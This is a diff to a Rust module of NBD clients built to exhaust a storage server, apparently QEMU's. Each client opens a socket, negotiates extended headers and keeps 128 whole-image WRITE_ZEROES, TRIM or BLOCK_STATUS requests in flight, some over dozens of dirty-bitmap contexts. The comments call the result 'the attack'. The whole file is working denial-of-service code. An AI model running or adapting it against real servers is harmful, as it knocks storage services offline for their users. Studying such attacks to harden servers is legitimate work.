@@ -1,4 +1,5 @@
-//! Clients of NBD that send legal, small requests, which cost the server much.
+//! Clients of NBD that send legal, small requests, which cost the server much. Their headers are extended, as these have
+//! lengths of 64 bits.
 
 use std::io::{self, Read, Write};
 use std::os::unix::net::UnixStream;
@@ -12,13 +13,11 @@ const TRIM: u16 = 4;
 const WRITE_ZEROES: u16 = 6;
 const BLOCK_STATUS: u16 = 7;
 const GO: u32 = 7;
-const STRUCTURED_REPLY: u32 = 8;
 const SET_META_CONTEXT: u32 = 10;
-const STRUCTURED: u32 = 0x668e_33ef;
+const EXTENDED_HEADERS: u32 = 11;
+const EXTENDED_REQUEST: u32 = 0x21e4_1c71;
 /// Requests in flight, where it is not the attack's own number.
 const DEPTH: u64 = 128;
-/// The longest request that is a multiple of a cluster of 64 KiB.
-const LONGEST: u32 = 0xffff_0000;
 
 struct Client<'a> {
     stream: UnixStream,
@@ -26,7 +25,7 @@ struct Client<'a> {
 }
 
 impl<'a> Client<'a> {
-    /// A client of an export, with these metadata contexts; without any, replies are simple.
+    /// A client of an export, with these metadata contexts.
     fn of(
         target: &Target,
         export: &str,
@@ -35,9 +34,9 @@ impl<'a> Client<'a> {
     ) -> io::Result<Client<'a>> {
         let mut client = Client { stream: greeted(&target.nbd)?, go_on };
         let name = [&(export.len() as u32).to_be_bytes()[..], export.as_bytes()].concat();
+        client.stream.write_all(&option(EXTENDED_HEADERS, b""))?;
+        client.until_acknowledged()?;
         if !contexts.is_empty() {
-            client.stream.write_all(&option(STRUCTURED_REPLY, b""))?;
-            client.until_acknowledged()?;
             let mut queries = [&name[..], &(contexts.len() as u32).to_be_bytes()].concat();
             for context in contexts {
                 queries.extend((context.len() as u32).to_be_bytes());
@@ -92,30 +91,21 @@ impl<'a> Client<'a> {
     }
 
     fn send(&mut self, request: &Request, cookie: u64) -> io::Result<()> {
-        let head =
-            [&0x2560_9513u32.to_be_bytes()[..], &[0, 0], &request.kind.to_be_bytes()].concat();
-        let place = [request.at.to_be_bytes(), cookie.to_be_bytes()];
-        let [at, cookie] = place;
-        self.stream.write_all(&[&head[..], &cookie, &at, &request.len.to_be_bytes()].concat())
+        let head = [&EXTENDED_REQUEST.to_be_bytes()[..], &[0, 0], &request.kind.to_be_bytes()];
+        let [cookie, at, len] = [cookie, request.at, request.len].map(u64::to_be_bytes);
+        self.stream.write_all(&[&head.concat()[..], &cookie, &at, &len].concat())
     }
 
-    /// Takes a reply to one of several equal requests, all of it.
-    fn reply(&mut self, request: &Request) -> io::Result<()> {
+    /// Takes all chunks of a reply to one of the requests.
+    fn reply(&mut self) -> io::Result<()> {
         loop {
-            let mut head = [0; 16];
+            // Magic number, flags, type, cookie, offset, length.
+            let mut head = [0; 32];
             self.take(&mut head)?;
-            let [a, b, c, d, e, ..] = head;
-            if u32::from_be_bytes([a, b, c, d]) != STRUCTURED {
-                let error = u32::from_be_bytes([head[4], head[5], head[6], head[7]]);
-                let data = if request.kind == READ && error == 0 { request.len } else { 0 };
-                return self.skip(data.into());
-            }
-            let mut len = [0; 4];
-            self.take(&mut len)?;
-            self.skip(u32::from_be_bytes(len).into())?;
-            // The flags' high byte is empty.
-            let is_last = (u16::from_be_bytes([e, head[5]]) & 1) == 1;
-            if is_last {
+            let [.., a, b, c, d, e, f, g, h] = head;
+            self.skip(u64::from_be_bytes([a, b, c, d, e, f, g, h]))?;
+            // The last chunk has the flag.
+            if head[5] & 1 == 1 {
                 return Ok(());
             }
         }
@@ -127,7 +117,7 @@ impl<'a> Client<'a> {
             self.send(&request(cookie), cookie)?;
         }
         for cookie in depth.. {
-            self.reply(&request(0))?;
+            self.reply()?;
             if !self.go_on.blow() {
                 break;
             }
@@ -140,35 +130,33 @@ impl<'a> Client<'a> {
 struct Request {
     kind: u16,
     at: u64,
-    len: u32,
+    len: u64,
 }
 
-/// Requests over all of an image.
-fn everywhere(image: Costly, kind: u16) -> impl Fn(u64) -> Request {
-    let places = image.size() / u64::from(LONGEST);
-    move |cookie| Request { kind, at: cookie % places * u64::from(LONGEST), len: LONGEST }
+/// Requests for all of an image.
+fn whole(image: Costly, kind: u16) -> impl Fn(u64) -> Request {
+    move |_| Request { kind, at: 0, len: image.size() }
 }
 
 pub(crate) fn zeroes(target: &Target, go_on: &GoOn) -> io::Result<()> {
     Client::of(target, Costly::Sparse.name(), &[], go_on)?
-        .keep(DEPTH, everywhere(Costly::Sparse, WRITE_ZEROES))
+        .keep(DEPTH, whole(Costly::Sparse, WRITE_ZEROES))
 }
 
 pub(crate) fn trims(target: &Target, go_on: &GoOn) -> io::Result<()> {
-    Client::of(target, Costly::Sparse.name(), &[], go_on)?
-        .keep(DEPTH, everywhere(Costly::Sparse, TRIM))
+    Client::of(target, Costly::Sparse.name(), &[], go_on)?.keep(DEPTH, whole(Costly::Sparse, TRIM))
 }
 
 pub(crate) fn status(target: &Target, go_on: &GoOn) -> io::Result<()> {
     let contexts = ["base:allocation".to_owned()];
     Client::of(target, Costly::Sparse.name(), &contexts, go_on)?
-        .keep(DEPTH, everywhere(Costly::Sparse, BLOCK_STATUS))
+        .keep(DEPTH, whole(Costly::Sparse, BLOCK_STATUS))
 }
 
 pub(crate) fn bitmaps(target: &Target, go_on: &GoOn) -> io::Result<()> {
     let contexts: Vec<_> = (0..BITMAPS).map(|i| format!("qemu:dirty-bitmap:b{i}")).collect();
     let mut client = Client::of(target, Costly::Bitmaps.name(), &contexts, go_on)?;
-    client.keep(DEPTH, everywhere(Costly::Bitmaps, BLOCK_STATUS))
+    client.keep(DEPTH, whole(Costly::Bitmaps, BLOCK_STATUS))
 }
 
 /// Reads of a sector, each in another cluster than the one before.
